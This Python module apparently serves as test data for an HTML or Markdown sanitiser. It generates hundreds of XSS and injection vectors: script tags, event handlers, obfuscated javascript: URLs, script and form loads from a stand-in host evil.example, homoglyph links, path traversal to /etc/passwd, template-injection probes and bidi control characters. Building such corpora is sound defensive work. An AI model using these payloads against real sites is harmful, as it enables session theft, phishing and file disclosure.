"""Hostile translations: ways to get a script, a handler, an address or a form onto a page. Made by rules, so that
all combinations are there: elements, handlers, schemes, and what parsers undo (cases, entities, controls, marks)."""

from __future__ import annotations

_ELEMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<style>*{display:none}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:alert(1)'/></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open>x</dialog>",
    "<portal src=//evil.example>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "</section><section id=disclaimer>",
    "<!--><script>alert(1)</script>-->",
    "<!-- -->",
    "<!doctype html>",
    "<?php system('x') ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<b>never closed",
    "never opened</b>",
    "<table><tr><td>x",
)
_HANDLED = ("img src=x", "svg", "b", "em", "span", "video src=x", "audio src=x", "input autofocus", "a href=#", "q")
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "ontoggle")
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)",
    "%6Aavascript:alert(1)",
    "%256Aavascript:alert(1)",
    "vbscript:x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,%3Csvg onload=alert(1)%3E",
    "feed:javascript:alert(1)",
    "//evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "https://evil.example/",
    "https:evil.example",
    "https://lunа.example/",  # a Cyrillic а
    "https://tiny.example@evil.example/",
    "mailto:evil@evil.example",
    "tel:+1900",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "{filename}/../../etc/passwd",
    "{static}/../../etc/passwd",
    "{attach}../../secret.txt",
    "|static|/../secret.txt",
)
_LINKS = ("[x]({})", "[x](<{}>)", "![x]({})", "<a href='{}'>x</a>", "<a href={}>x</a>")
_LISTS = ("onclick=alert(1)", ".x", "#disclaimer", "style=position:fixed", "href=javascript:alert(1)", "srcdoc=x")
_LISTED = ("*x*{{: {} }}", "text {{: {} }}", "[x](y){{: {} }}", "**x**{{{}}}", "text\n{{: {} }}")
_CHARACTERS = (
    "\u202eevil",
    "evil\u2066",
    "\u2069evil",
    "\U000e0041\U000e0042",
    "\x02wzxhzdk:0\x03",
    "\x02klzzwxh:0000\x03",
    "wzxhzdk:0",
    "\x1b[31m",
    "\x85",
)
_OTHERS = (
    "[TOC]",
    "{{ SITEURL }}",
    "{% include 'x' %}",
    "{{ ''.__class__.__mro__ }}",
    "{# x #}",
    "%(nothing)s",
    "{0.real}",
    "[x]: javascript:alert(1)",
    "*[x]: <script>",
    "[^x]: <script>alert(1)</script>",
    "`<script>`</code><script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'x" onmouseover="alert(1)',
    "x' onmouseover='alert(1)",
    "]]><script>alert(1)</script>",
)

VECTORS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_ELEMENTS,
            *(f"<{element} {handler}=alert(1)>x" for element in _HANDLED for handler in _HANDLERS),
            *(f"<{element}/{_HANDLERS[0]}=alert(1)//>" for element in _HANDLED),
            *(link.format(address) for link in _LINKS for address in _SCHEMES),
            *(f"<{address}>" for address in _SCHEMES[:1] + _SCHEMES[16:21]),
            *(listed.format(what) for listed in _LISTED for what in _LISTS),
            *_CHARACTERS,
            *_OTHERS,
        )
    )
)
